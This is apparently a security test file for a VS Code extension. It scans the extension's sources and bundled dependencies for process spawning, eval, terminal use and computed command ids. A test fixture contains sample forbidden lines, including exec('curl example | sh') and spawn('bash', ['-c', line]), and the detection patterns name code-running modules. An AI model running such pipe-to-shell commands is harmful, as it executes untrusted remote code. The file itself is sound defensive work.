// Security review, made into tests (issue 8): no command runs anything taken from a workspace file.
// The extension never starts processes, never evaluates strings as code and never hands text to a
// terminal or a task; template expressions are interpreted by src/lint's own evaluator (a function
// table), not by JavaScript. Checked two ways: on our sources (syntax tree) and on everything the
// extension's bundles can reach (esbuild's module graph, third-party code included).
import * as assert from 'node:assert/strict';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import ts from 'typescript';
import { buildNodeBundle } from './nodeBundle';

const root = path.resolve(__dirname, '..', '..', '..', ...(__dirname.includes(`${path.sep}out${path.sep}`) ? ['..'] : []));

/** Node modules that run code or processes. */
const codeRunningModules = /^(node:)?(child_process|vm|worker_threads|cluster)$/;

/** VS Code APIs that run text as a command line. */
const commandLineApis = new Set(['createTerminal', 'sendText', 'executeTask', 'ShellExecution', 'ProcessExecution']);

/**
 * `executeCommand` with a computed id, reviewed: dashboardActions maps a validated RunAction (a closed
 * union checked by the webview contract) to a fixed vmssUpgrades.* id; nothing comes from a file.
 */
const reviewedComputedCommandIds = new Set(['src/commands/dashboardActions.ts']);

/**
 * Process starts, reviewed: the extension's simulator runs as a local process that survives a window
 * reload (issue 6). It spawns the extension's own dist/simulator-server.js with the running Node
 * (process.execPath), without a shell; its arguments are data the server parses (a discovery-file path,
 * a scenario file it validates as JSON, numbers). Checked below: only `spawn(process.execPath, …)`,
 * never exec/execFile/fork or `shell: true`.
 */
const reviewedProcessStarts = new Set(['src/connection/sharedSimulator.ts']);
const processStartCalls = new Set(['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']);

interface Finding {
  readonly at: string;
  readonly what: string;
}

function importedModule(node: ts.Node): string | undefined {
  if ((ts.isImportDeclaration(node) || ts.isExportDeclaration(node)) && node.moduleSpecifier && ts.isStringLiteral(node.moduleSpecifier)) return node.moduleSpecifier.text;
  if (ts.isImportEqualsDeclaration(node) && ts.isExternalModuleReference(node.moduleReference) && ts.isStringLiteral(node.moduleReference.expression)) return node.moduleReference.expression.text;
  const isRequireOrImport = ts.isCallExpression(node) && (node.expression.kind === ts.SyntaxKind.ImportKeyword || (ts.isIdentifier(node.expression) && node.expression.text === 'require'));
  if (isRequireOrImport && node.arguments[0] && ts.isStringLiteral(node.arguments[0])) return node.arguments[0].text;
  return undefined;
}

function scanSource(source: ts.SourceFile, rel: string): Finding[] {
  const findings: Finding[] = [];
  const at = (node: ts.Node) => `${rel}:${source.getLineAndCharacterOfPosition(node.getStart()).line + 1}`;
  const visit = (node: ts.Node) => {
    const moduleName = importedModule(node);
    const reviewedChildProcess = reviewedProcessStarts.has(rel) && /^(node:)?child_process$/.test(moduleName ?? '');
    if (moduleName && codeRunningModules.test(moduleName) && !reviewedChildProcess) findings.push({ at: at(node), what: `imports ${moduleName}` });
    if (reviewedProcessStarts.has(rel) && ts.isCallExpression(node) && processStartCalls.has(node.expression.getText(source).split('.').pop() ?? '')) {
      const [command, , options] = node.arguments;
      const name = node.expression.getText(source);
      if (name !== 'spawn' || command?.getText(source) !== 'process.execPath') findings.push({ at: at(node), what: `starts a process other than spawn(process.execPath, …): ${name}` });
      if (options && /\bshell\s*:/.test(options.getText(source))) findings.push({ at: at(node), what: 'starts a process through a shell' });
    }
    if (ts.isCallExpression(node) || ts.isNewExpression(node)) {
      const callee = node.expression.getText(source);
      const name = callee.split('.').pop() ?? '';
      const [first] = node.arguments ?? [];
      if (callee === 'eval' || callee === 'Function' || callee === 'globalThis.eval') findings.push({ at: at(node), what: `calls ${callee}` });
      if (commandLineApis.has(name)) findings.push({ at: at(node), what: `uses ${name}` });
      if ((name === 'setTimeout' || name === 'setInterval') && first && (ts.isStringLiteral(first) || ts.isTemplateExpression(first))) findings.push({ at: at(node), what: `${name} with a string` });
      if (name === 'executeCommand' && first && !ts.isStringLiteral(first) && !reviewedComputedCommandIds.has(rel)) {
        findings.push({ at: at(node), what: `executeCommand with a computed id (${first.getText(source)})` });
      }
    }
    ts.forEachChild(node, visit);
  };
  visit(source);
  return findings;
}

function scanFile(file: string): Finding[] {
  const rel = path.relative(root, file).split(path.sep).join('/');
  return scanSource(ts.createSourceFile(file, readFileSync(file, 'utf8'), ts.ScriptTarget.ES2022, true), rel);
}

function sourceFiles(): string[] {
  return readdirSync(path.join(root, 'src'), { recursive: true, encoding: 'utf8' })
    .filter((f) => f.endsWith('.ts') && !f.endsWith('.d.ts'))
    .map((f) => path.join(root, 'src', f));
}

describe('no code execution from workspace content', function () {
  this.timeout(60_000);

  it('our sources never start processes, evaluate strings, drive terminals or tasks, or run computed command ids', () => {
    const files = sourceFiles();
    assert.ok(files.length > 20, 'the scan sees the sources');
    assert.deepEqual(files.flatMap(scanFile), []);
  });

  it('the scan finds each forbidden use in a fixture (so that an empty result means something)', () => {
    const findings = scanFile(path.join(root, 'test', 'unit', 'security', 'fixtures', 'forbidden.ts.txt'));
    assert.deepEqual(findings.map((f) => f.what).sort(), [
      'calls Function',
      'calls eval',
      'executeCommand with a computed id (settings.command)',
      'imports child_process',
      'imports node:vm',
      'setTimeout with a string',
      'uses createTerminal',
      'uses sendText',
    ]);
  });

  it('the reviewed simulator launcher may only spawn the running Node without a shell', () => {
    const text = [
      "import { spawn, exec } from 'node:child_process';",
      "spawn(process.execPath, [script, '--discovery', file], { detached: true });",
      "exec('curl example | sh');",
      "spawn('bash', ['-c', line]);",
      'spawn(process.execPath, args, { shell: true });',
    ].join('\n');
    const findings = scanSource(ts.createSourceFile('x.ts', text, ts.ScriptTarget.ES2022, true), 'src/connection/sharedSimulator.ts');
    assert.deepEqual(findings.map((f) => `${f.at.split(':')[1]} ${f.what.split(':')[0]}`), [
      '3 starts a process other than spawn(process.execPath, …)',
      '4 starts a process other than spawn(process.execPath, …)',
      '5 starts a process through a shell',
    ]);
    // The same text anywhere else is refused at the import already.
    assert.ok(scanSource(ts.createSourceFile('x.ts', text, ts.ScriptTarget.ES2022, true), 'src/commands/x.ts').some((f) => f.what === 'imports node:child_process'));
  });

  it('nothing an extension bundle can reach imports child_process, vm, worker_threads or cluster (third-party code included)', async () => {
    const lazy = /^\.\/(azure-sdk|simulator-entry|telemetry-reporter)$/;
    const entries = ['src/extension.ts', 'src/azure/azure-sdk.ts', 'src/simulator/simulator-entry.ts', 'src/telemetry/telemetry-reporter.ts'].filter((e) => existsSync(path.join(root, e)));
    const offenders: string[] = [];
    let modules = 0;
    for (const entry of entries) {
      const result = await buildNodeBundle(root, entry, lazy);
      for (const [file, input] of Object.entries(result.metafile.inputs)) {
        modules++;
        for (const imported of input.imports) {
          const reviewed = reviewedProcessStarts.has(file) && /^(node:)?child_process$/.test(imported.path);
          if (codeRunningModules.test(imported.path) && !reviewed) offenders.push(`${entry}: ${file} imports ${imported.path}`);
        }
      }
    }
    assert.ok(modules > 100, `the graph holds the SDK too (${modules} modules)`);
    assert.deepEqual(offenders, []);
  });
});
